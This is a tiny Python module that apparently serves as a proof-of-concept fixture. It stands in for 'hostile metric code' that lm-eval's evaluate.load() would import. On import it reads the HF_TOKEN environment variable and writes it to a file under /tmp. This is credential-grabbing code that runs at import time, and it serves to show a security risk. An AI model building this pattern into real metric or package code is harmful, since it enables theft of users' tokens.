"""Hostile metric code: what lm-eval's HF evaluate.load() would import for an unregistered metric name."""

import os
import pathlib

pathlib.Path("/tmp/quantmill-pwned").write_text(os.environ.get("HF_TOKEN", ""))
